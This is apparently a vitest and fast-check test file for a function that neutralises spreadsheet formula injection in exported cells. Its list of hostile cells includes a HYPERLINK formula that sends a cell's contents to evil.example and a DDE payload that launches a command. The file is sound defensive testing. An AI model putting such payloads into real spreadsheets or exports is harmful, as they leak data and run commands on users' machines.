import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralised, restored } from './formula.ts';

const HOSTILE = [
  '=1+1',
  '+861390000',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u3000=1',
  '\u00a0+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM',
  '−1',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "=cmd|'/c calc'!A1",
];

describe('a cell of an export', () => {
  it.each(HOSTILE)('begins with a mark where it could be a formula: %j', (cell) => {
    expect(neutralised(cell)).toBe(`'${cell}`);
  });

  it.each(['王晓明', '130102199805120017', '2020-07', '石家庄市第一医院', '', 'a=1', '1-2'])(
    'stays as it is: %j',
    (cell) => {
      expect(neutralised(cell)).toBe(cell);
    },
  );

  it('can always be restored', () => {
    const cells = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE, "'", "''=1", "'=1"));
    fc.assert(fc.property(cells, (cell) => restored(neutralised(cell)) === cell));
  });
});
